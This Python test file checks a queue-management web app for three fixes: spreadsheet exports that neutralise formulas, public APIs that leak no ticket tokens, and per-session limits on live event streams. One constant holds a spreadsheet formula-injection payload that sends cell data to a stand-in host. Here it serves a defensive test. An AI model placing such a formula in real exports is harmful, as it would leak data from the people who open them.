"""Issue 13 rows 15, 16 and 18: exports, public payloads and live pages.

The real app with a played sample morning (server.devtools.screenshots.build_demo),
served by real waitress with the production options (server.cli.waitress_options) in
this process, so the live hub's own build count can be read.
"""
from __future__ import annotations

import dataclasses
import io
import json
import re
import socket
import statistics
import threading
import time
from argparse import Namespace

import pytest

from http_parts import ATTACKER, CLIENT, figure, request
from server.cli import waitress_options
from server.devtools.screenshots import PASSWORD, build_demo
from server.httplimits import LIVE_STREAMS_PER_SESSION, THREADS

EVIL = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    import waitress
    app, svc, clock, ids = build_demo(str(tmp_path_factory.mktemp("payloads")),
                                      config={"LALOPA_SSE_TICK_S": 5.0})
    args = Namespace(host="127.0.0.1", port=0, threads=THREADS, trusted_proxy=None)
    server = waitress.create_server(app, **waitress_options(args))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    yield app, svc, server.effective_port
    server.close()  # the loop thread (a daemon) ends with the last open channel
    thread.join(1)
    svc.close()


def _login(port: int, username: str, source: str) -> dict:
    """Log in through the form; the cookies of the new session."""
    status, h, page = request(port, "GET", "/login", source=source)
    jar = _cookies(h)
    csrf = re.search(rb'name="csrf_token" value="([^"]+)"', page).group(1).decode()
    from urllib.parse import urlencode
    status, h, _ = request(port, "POST", "/login",
                           urlencode({"username": username, "password": PASSWORD,
                                      "csrf_token": csrf}).encode(),
                           {"Content-Type": "application/x-www-form-urlencoded",
                            "Cookie": _cookie_header(jar)}, source=source)
    assert status == 302, status
    jar.update(_cookies(h))
    return jar


def _cookies(headers: dict) -> dict:
    out = {}
    for line in headers.get("set-cookie", "").splitlines():
        name, _, rest = line.partition("=")
        out[name.strip()] = rest.split(";", 1)[0]
    return out


def _cookie_header(jar: dict) -> str:
    return "; ".join(f"{k}={v}" for k, v in jar.items())


def test_exports_never_carry_a_live_formula(served, capsys):
    """GIVEN a service named =HYPERLINK(...) and a counter named @SUM(...) WHEN the supervisor
    downloads the CSV and the XLSX THEN no cell is a formula: each such text starts with an
    apostrophe (before: a live formula in the XLSX, and in the CSV for any spreadsheet)."""
    from openpyxl import load_workbook
    app, svc, port = served
    original = svc.site
    services = tuple(dataclasses.replace(s, name_id=EVIL) if s.prefix == "A" else s
                     for s in original.services)
    counters = tuple(dataclasses.replace(c, name="@SUM(1+1)") if c.number == 1 else c
                     for c in original.counters)
    svc.site = dataclasses.replace(original, services=services, counters=counters)
    try:
        jar = _login(port, "supervisor", CLIENT)
        day = svc.now()["service_day"]
        hdr = {"Cookie": _cookie_header(jar)}
        s1, _h, csv_body = request(port, "GET", f"/reports/export.csv?from={day}", headers=hdr)
        s2, _h, xlsx_body = request(port, "GET", f"/reports/export.xlsx?from={day}", headers=hdr)
    finally:
        svc.site = original
    assert s1 == 200 and s2 == 200
    csv_text = csv_body.decode()
    wb = load_workbook(io.BytesIO(xlsx_body))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    live = sum(1 for ln in csv_text.splitlines() if re.search(r'(^|,)"?[=+@-]', ln))
    figure(capsys, f"XLSX: {len(cells)} cells, {len(formulas)} formulas; "
                   f"CSV cells starting with = + - @: {live}")
    assert formulas == []
    assert "'" + EVIL in texts and "'@SUM(1+1)" in texts
    assert not re.search(r'(^|,)"?[=+@-]', csv_text, re.M)
    assert "'=HYPERLINK(" in csv_text


def test_public_endpoints_carry_no_status_tokens(served, capsys):
    """GIVEN tickets being served at several counters WHEN anybody reads /api/v1/board, /queue
    and /counters/N THEN no ticket's status token is in them (before: the tokens of the 16
    tickets being served); the issuing kiosk's answer still carries its own token."""
    app, svc, port = served
    tokens = [r["token"] for r in svc.db.read().execute(
        "SELECT token FROM tickets WHERE status IN ('called', 'serving')")]
    assert tokens, "the sample morning has tickets being served"
    leaked = 0
    for path in ["/api/v1/board", "/api/v1/queue"] + [f"/api/v1/counters/{n}" for n in range(1, 17)]:
        status, _h, body = request(port, "GET", path, source=ATTACKER)
        assert status == 200, path
        leaked += sum(t.encode() in body for t in tokens) + body.count(b'"token"')
    kiosk = svc.create_device_token("kiosk-h16", "kiosk")
    status, _h, body = request(port, "POST", "/api/v1/tickets",
                               {"service": "B", "request_id": "h16-1"},
                               {"Authorization": f"Bearer {kiosk}"})
    own = json.loads(body)["ticket"]["token"]
    figure(capsys, f"status tokens of {len(tokens)} served tickets in 18 public answers: {leaked}")
    assert leaked == 0
    assert status == 201 and own and request(port, "GET", f"/t/{own}")[0] == 200


class Stream:
    """One open event stream read (and discarded) by its own thread."""

    def __init__(self, port: int, path: str, jar: dict, source: str):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10,
                                             source_address=(source, 0))
        self.sock.sendall(f"GET {path} HTTP/1.1\r\nHost: lalopa\r\nAccept: text/event-stream\r\n"
                          f"Cookie: {_cookie_header(jar)}\r\n\r\n".encode())
        head = self.sock.recv(4096)
        self.status = int(head.split()[1])
        self.events = head.count(b"event: state")
        self.thread = threading.Thread(target=self._read, daemon=True)
        self.thread.start()

    def _read(self):
        try:
            while chunk := self.sock.recv(65536):
                self.events += chunk.count(b"event: state")
        except OSError:
            pass

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()


@pytest.mark.slow
def test_live_pages_share_one_snapshot_and_one_session_cannot_take_every_slot(served, capsys):
    """GIVEN one session opening 18 live pages THEN only LIVE_STREAMS_PER_SESSION streams open
    and the rest are told to poll (before: it held every slot). GIVEN 16 open dashboards
    (8 staff sessions) WHEN a counter calls 20 times THEN the snapshot is built about once per
    change for all 16 streams (before: once per stream), and calls stay fast (before: median
    8 ms -> 145 ms with 18-24 streams)."""
    app, svc, port = served
    hub = app.extensions["lalopa.hub"]
    greedy_jar = _login(port, "supervisor", ATTACKER)
    greedy = [Stream(port, "/dashboard/events", greedy_jar, ATTACKER) for _ in range(18)]
    opened = sum(s.status == 200 for s in greedy)
    for s in greedy:
        if s.status != 200:
            s.close()
    greedy = [s for s in greedy if s.status == 200]

    staff = []
    for i in range(8):
        source = f"127.0.0.{30 + i}"
        jar = _login(port, "admin" if i % 2 else "supervisor", source)
        staff += [Stream(port, "/dashboard/events", jar, source) for _ in range(2)]
    assert all(s.status == 200 for s in staff)
    panel = svc.create_device_token("panel-h18", "panel", counter=9)
    kiosk = svc.create_device_token("kiosk-h18", "kiosk")
    for i in range(8):
        request(port, "POST", "/api/v1/tickets", {"service": "A", "request_id": f"h18-t{i}"},
                {"Authorization": f"Bearer {kiosk}"})
    request(port, "POST", "/api/v1/counters/9/actions", {"action": "open", "command_id": "h18-open"},
            {"Authorization": f"Bearer {panel}"})
    time.sleep(0.5)
    builds_before, t0 = hub.builds, time.monotonic()
    latencies = []
    for i in range(20):
        action = "next" if i % 2 == 0 else "recall"
        start = time.monotonic()
        status, _h, _b = request(port, "POST", "/api/v1/counters/9/actions",
                                 {"action": action, "command_id": f"h18-{i}"},
                                 {"Authorization": f"Bearer {panel}"})
        latencies.append(time.monotonic() - start)
        assert status == 200
        time.sleep(0.05)
    time.sleep(0.5)
    builds, took = hub.builds - builds_before, time.monotonic() - t0
    events = sum(s.events for s in staff)
    for s in greedy + staff:
        s.close()
    figure(capsys, f"one session asked for 18 live pages: {opened} opened, {18 - opened} told to "
                   f"poll; 16 dashboards over 20 calls: {builds} snapshot builds "
                   f"(per stream would be {20 * 16}), {events} events delivered; call latency "
                   f"median {statistics.median(latencies) * 1000:.0f} ms, "
                   f"max {max(latencies) * 1000:.0f} ms")
    assert opened == LIVE_STREAMS_PER_SESSION
    # one build per change (a call may notify twice: action and the call), plus ticks
    assert builds <= 2 * 20 + took / 2.5 + 4
    assert statistics.median(latencies) < 0.5
